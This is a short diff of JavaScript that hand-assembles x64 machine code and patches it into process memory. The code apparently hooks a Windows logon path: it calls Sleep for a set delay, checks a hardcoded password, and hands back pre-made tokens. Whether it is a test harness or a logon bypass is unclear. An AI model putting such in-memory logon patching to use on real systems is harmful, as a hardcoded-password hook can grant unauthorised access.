@@ -30,11 +30,21 @@ const next = place + 4096n; // where the next token is
 const unloaded = place + 4104n; // how often
 const tokens = place + 4112n;
 
-/** @param logons how many there are room for @returns how many profiles were unloaded so far */
-export function putLogonInPlace(logons) {
+/**
+ * @param logons how many there are room for
+ * @param milliseconds that each of them takes
+ * @returns how many profiles were unloaded so far
+ */
+export function putLogonInPlace(logons, milliseconds = 0) {
   const made = Array.from({ length: logons }, () => quad(ownToken()));
   patch(next, Buffer.concat([quad(tokens), quad(0), ...made]));
+  const wait = Buffer.alloc(4);
+  wait.writeUInt32LE(milliseconds);
   const code = Buffer.concat([
+    Buffer.from([0x48, 0x83, 0xec, 0x38, 0x4c, 0x89, 0x44, 0x24, 0x28]), // keep r8, the password
+    Buffer.from([0xb9, ...wait]), // mov ecx, milliseconds
+    Buffer.from([0x48, 0xb8, ...quad(addressOf('kernel32.dll', 'Sleep')), 0xff, 0xd0]), // call Sleep
+    Buffer.from([0x4c, 0x8b, 0x44, 0x24, 0x28, 0x48, 0x83, 0xc4, 0x38]), // r8 again
     Buffer.from([0x48, 0xb8, ...Buffer.from(PASSWORD, 'utf16le')]), // mov rax, PASSWORD
     Buffer.from([0x49, 0x39, 0x00]), // cmp [r8], rax
     Buffer.from([0x75, 34]), // jne to the error
